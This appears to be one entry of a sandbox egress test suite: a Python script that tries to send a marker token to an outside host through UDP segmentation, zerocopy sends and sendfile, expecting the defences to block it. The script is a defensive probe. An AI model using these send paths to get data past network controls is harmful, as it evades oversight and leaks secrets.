# SPDX-License-Identifier: GPL-2.0-or-later
# row: H4
# what: one send that the kernel cuts into many: UDP_SEGMENT, MSG_ZEROCOPY, sendfile
# defences: hold
import os
import socket

from attempt import SECONDS, TOKEN, WORLD4

UDP_SEGMENT, SO_ZEROCOPY, MSG_ZEROCOPY = 103, 60, 0x4000000
with socket.socket(type=socket.SOCK_DGRAM) as sock:
    try:
        sock.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, len(TOKEN))
        sock.sendto(TOKEN * 4, (WORLD4, 443))
    except OSError as error:
        print(error)
with socket.socket(type=socket.SOCK_DGRAM) as sock:
    try:
        sock.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
        sock.sendto(TOKEN, MSG_ZEROCOPY, (WORLD4, 443))
    except OSError as error:
        print(error)
with socket.socket() as sock, open("/tmp/atlas-file", "w+b") as file:
    try:
        sock.settimeout(SECONDS)
        file.write(TOKEN)
        file.flush()
        sock.connect((WORLD4, 443))
        os.sendfile(sock.fileno(), file.fileno(), 0, len(TOKEN))
    except OSError as error:
        print(error)
